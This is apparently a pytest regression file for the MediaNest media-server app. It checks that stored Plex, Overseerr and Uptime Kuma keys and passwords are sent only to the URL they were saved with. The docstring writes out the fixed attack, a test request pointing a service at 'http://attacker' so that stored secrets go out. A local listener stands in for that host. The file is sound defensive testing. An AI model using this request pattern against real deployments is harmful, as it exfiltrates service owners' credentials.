"""A stored service key goes only to the URL it was saved with.

The attack: `POST /api/admin/services/test {"name": "plex", "url": "http://attacker"}`
sent the stored Plex owner token (and the Overseerr and Uptime Kuma keys) to any URL,
so an admin session, or whoever holds one, could read every stored secret. A test or a
save with another URL now needs the key typed again; the listener below stands in for
the attacker's host and records every byte it is sent.
"""

from __future__ import annotations

import asyncio
import base64
import re
from collections.abc import AsyncIterator, Callable
from typing import Any

import httpx
import pytest

from medianest.app import MediaNestApp
from medianest_simulators.overseerr_data import API_KEY as OVERSEERR_KEY
from medianest_simulators.plextv_models import OWNER_TOKEN
from medianest_simulators.uptime_kuma import API_KEY as KUMA_KEY
from tests.factories.users import prepare_bootstrap_admin, signed_in_client
from tests.support.listener import Listener

SAVED_KEYS = {"plex": OWNER_TOKEN, "overseerr": OVERSEERR_KEY, "uptime_kuma": KUMA_KEY}
HX = {"HX-Request": "true"}


@pytest.fixture
async def attacker() -> AsyncIterator[Listener]:
    listener = Listener()
    await listener.start()
    yield listener
    await listener.stop()


@pytest.fixture
def simulator_env(plex: Any, overseerr: Any, kuma: Any, plextv: Any) -> dict[str, Any]:
    return {
        "plex_tv_url": plextv.url,
        "plex_url": plex.url,
        "plex_token": OWNER_TOKEN,
        "overseerr_url": overseerr.url,
        "overseerr_api_key": OVERSEERR_KEY,
        "uptime_kuma_url": kuma.url,
        "uptime_kuma_api_key": KUMA_KEY,
        "health_check_interval_seconds": 0.2,
    }


@pytest.fixture
async def seeded(
    app_factory: Callable[..., Any],
    make_settings: Callable[..., Any],
    simulator_env: dict[str, Any],
) -> AsyncIterator[tuple[MediaNestApp, httpx.AsyncClient]]:
    app: MediaNestApp = await app_factory(make_settings(**simulator_env))
    admin = await prepare_bootstrap_admin(app)
    async with await signed_in_client(app, admin) as client:
        yield app, client


def _seen(listener: Listener) -> bytes:
    """What the listener was sent, with Basic credentials decoded (Kuma's key is one)."""
    decoded = [
        base64.b64decode(token + b"==")
        for token in re.findall(rb"(?i)authorization: basic ([A-Za-z0-9+/=]+)", listener.received)
    ]
    return bytes(listener.received) + b"\n".join(decoded)


def _leaked(listener: Listener) -> list[str]:
    return [name for name, key in SAVED_KEYS.items() if key.encode() in _seen(listener)]


@pytest.mark.parametrize("name", sorted(SAVED_KEYS))
async def test_testing_another_url_needs_the_key_typed_again(
    seeded: tuple[MediaNestApp, httpx.AsyncClient], attacker: Listener, name: str
) -> None:
    _, admin = seeded
    refused = await admin.post("/api/admin/services/test", json={"name": name, "url": attacker.url})
    assert refused.status_code == 400
    error = refused.json()["error"]
    assert error["code"] == "VALIDATION_ERROR"
    assert error["details"] == {"field": "apiKey", "reason": "key_bound_to_saved_url"}
    assert attacker.received == b""  # not even a connection attempt carried the key

    typed = await admin.post(
        "/api/admin/services/test",
        json={"name": name, "url": attacker.url, "apiKey": "typed-by-the-admin"},
    )
    assert typed.status_code == 200
    assert b"typed-by-the-admin" in _seen(attacker)
    assert _leaked(attacker) == []


async def test_testing_the_saved_url_still_uses_the_saved_key(
    seeded: tuple[MediaNestApp, httpx.AsyncClient], plex: Any
) -> None:
    _, admin = seeded
    # The same URL as saved, as the admin page sends it (a trailing slash is the same URL).
    answer = await admin.post(
        "/api/admin/services/test", json={"name": "plex", "url": plex.url + "/"}
    )
    assert answer.status_code == 200
    assert answer.json()["data"]["status"] == "online"


async def test_the_settings_page_test_button_refuses_another_url_without_the_key(
    seeded: tuple[MediaNestApp, httpx.AsyncClient], attacker: Listener
) -> None:
    _, admin = seeded
    page = await admin.post(
        "/admin/services/overseerr/test", data={"url": attacker.url, "apiKey": ""}, headers=HX
    )
    assert page.status_code == 200
    assert "Type the key again" in page.text
    assert attacker.received == b""


@pytest.mark.housekeeping
async def test_saving_another_url_without_the_key_is_refused_and_sends_nothing(
    seeded: tuple[MediaNestApp, httpx.AsyncClient], attacker: Listener, overseerr: Any
) -> None:
    _, admin = seeded
    refused = await admin.put(
        "/api/admin/services/overseerr", json={"url": attacker.url, "enabled": True}
    )
    assert refused.status_code == 400
    assert refused.json()["error"]["details"]["field"] == "apiKey"
    page = await admin.put(
        "/admin/services/overseerr", data={"url": attacker.url, "enabled": "1"}, headers=HX
    )
    assert page.status_code == 400
    assert "Type the key again" in page.text
    saved = {s["name"]: s for s in (await admin.get("/api/admin/services")).json()["data"]}
    assert saved["overseerr"]["url"] == overseerr.url
    await asyncio.sleep(1.0)  # health checks run every 0.2 s: none goes to the new URL
    assert _leaked(attacker) == []

    # Moving with the key removed, or with a key typed for the new URL, is a choice.
    moved = await admin.put(
        "/api/admin/services/overseerr",
        json={"url": attacker.url, "enabled": True, "apiKey": "new-key-for-new-host"},
    )
    assert moved.status_code == 200
    await asyncio.sleep(1.0)
    assert b"new-key-for-new-host" in _seen(attacker)
    assert _leaked(attacker) == []


async def test_a_saved_password_is_bound_to_its_url_like_a_key(
    seeded: tuple[MediaNestApp, httpx.AsyncClient], attacker: Listener, kuma: Any
) -> None:
    _, admin = seeded
    saved = await admin.put(
        "/api/admin/services/uptime_kuma",
        json={"url": kuma.url, "enabled": True, "password": "kuma-account-password"},
    )
    assert saved.status_code == 200
    # The key typed again is not enough: the saved password stays with the saved URL too.
    refused = await admin.post(
        "/api/admin/services/test",
        json={"name": "uptime_kuma", "url": attacker.url, "apiKey": "typed-key"},
    )
    assert refused.status_code == 400
    assert refused.json()["error"]["details"]["field"] == "password"
    assert attacker.connections == 0
    assert b"kuma-account-password" not in _seen(attacker)
